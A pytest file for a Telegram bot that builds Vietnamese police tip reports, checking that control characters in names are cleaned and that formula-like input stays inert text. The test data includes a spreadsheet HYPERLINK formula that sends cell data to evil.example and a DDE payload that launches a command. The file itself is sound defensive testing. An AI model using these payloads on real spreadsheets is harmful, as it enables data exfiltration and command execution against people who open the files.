"""Report files that one name cannot break and that never attack their readers (issue 11 §6–7)."""

from __future__ import annotations

import asyncio
import io
import sqlite3

import pytest
from docx import Document
from openpyxl import load_workbook
from police_support import file_tip

from bot.cli import main
from bot.devtools.fake_telegram import FakeUser, SentMessage
from bot.domain import Role
from harness import Bench, say

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem ảnh")'


async def files_after(user: FakeUser, count: int) -> list[SentMessage]:
    """Read the report's files (documents and photos) as they arrive; fail on an apology."""
    got: list[SentMessage] = []
    while len(got) < count:
        message = await user.next_reply(timeout=20)
        assert "chưa tạo được tệp báo cáo" not in message.all_text
        if message.document or message.photo:
            got.append(message)
    return got


def cells(book: bytes) -> list[tuple[str, object, str, bool]]:
    """Return every cell of a workbook as (sheet, value, type, quote prefix)."""
    workbook = load_workbook(io.BytesIO(book))
    return [
        (sheet.title, cell.value, cell.data_type, bool(cell.quotePrefix))
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


async def test_a_control_character_in_a_name_and_a_formula_in_a_tip(bench: Bench) -> None:
    assert bench.org is not None
    # Word's manual line break pasted into a Telegram profile name: a vertical tab.
    lan = bench.fake.user("Lan\x0bAnh", last_name="Nông\x07")
    code = await bench.invite()
    await say(lan, f"/start {code}")
    person = await bench.person(lan)
    assert person.name == "Lan Anh Nông"  # cleaned where it entered, not at every reader
    tip = await file_tip(lan, text=FORMULA, urgent=False, source=None)

    minh = await bench.join("Minh", Role.POLICE, commune_id=bench.org.commune_a)
    await say(minh, "/baocao tháng này")
    _, book = await files_after(minh, 2)
    found = cells(bench.fake.file_bytes(book.document or ""))
    [(sheet, _, kind, quoted)] = [c for c in found if c[1] == FORMULA]
    assert (sheet, kind, quoted) == ("Tin báo", "s", True)  # a string, never a formula
    assert not any(kind == "f" for _, _, kind, _ in found)
    assert ("Tin báo", "Lan Anh Nông", "s", False) in found
    assert any(value == tip for _, value, _, _ in found)


@pytest.mark.sqlite_only  # writes the SQLite file directly
async def test_names_already_stored_with_control_characters_still_make_every_file(
    bench: Bench,
) -> None:
    assert bench.org is not None
    lan = await bench.join("Lan")
    await file_tip(lan, text="+cmd|' /C calc'!A0 người lạ hỏi đường", urgent=False, source=None)
    # What an older version, or a hand-edited database, may hold.
    with sqlite3.connect(bench.db) as conn:
        conn.execute(
            "UPDATE villages SET name = ? WHERE name = 'Thôn Nà Cáp'", ("Thôn\x0bNà Cáp\x00",)
        )
        conn.execute("UPDATE persons SET name = ? WHERE name = 'Lan'", ("Lan\x1b[31m",))
        conn.execute("UPDATE communes SET name = ? WHERE name = 'Xã Hòa An'", ("Xã Hòa An\x0c",))
        conn.execute("UPDATE entries SET place = ?", ("@SUM(1+1)\x08",))
    admin = bench.admin()
    reply = await say(admin, "/baocao tỉnh năm nay")
    assert not any(ch in reply.all_text for ch in "\x0b\x0c\x00\x1b")
    chart, book, draft = await files_after(admin, 3)
    assert chart.photo is not None
    found = cells(bench.fake.file_bytes(book.document or ""))
    values = {value for _, value, _, _ in found}
    assert "Thôn\nNà Cáp" in values and "Lan[31m" in values
    assert ("Tin báo", "@SUM(1+1)", "s", True) in found
    assert ("Tin báo", "+cmd|' /C calc'!A0 người lạ hỏi đường", "s", True) in found
    document = Document(io.BytesIO(bench.fake.file_bytes(draft.document or "")))
    text = "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
    assert "Xã Hòa An" in text


@pytest.mark.sqlite_only  # writes the SQLite file directly
async def test_an_imported_village_named_like_a_formula_stays_text(bench: Bench, tmp_path) -> None:  # type: ignore[no-untyped-def]
    assert bench.org is not None
    csv = tmp_path / "villages.csv"
    csv.write_text("xã,thôn\nXã Hòa An,=1+1\x0b\nXã Hòa An,Bản\x07 Khuổi\tLuông\n", "utf-8")
    config = tmp_path / "config.toml"
    config.write_text(f'[bot]\nprovince = "Cao Bằng"\n[storage]\npath = "{bench.db}"\n', "utf-8")
    assert await asyncio.to_thread(main, ["org", "import", str(csv), "--config", str(config)]) == 0
    names = {v.name for v in await bench.store.list_villages(bench.org.commune_a)}
    assert {"=1+1", "Bản Khuổi Luông"} <= names
    minh = await bench.join("Minh", Role.POLICE, commune_id=bench.org.commune_a)
    await say(minh, "/baocao tháng này")
    _, book = await files_after(minh, 2)
    assert ("Tổng hợp", "=1+1", "s", True) in cells(bench.fake.file_bytes(book.document or ""))
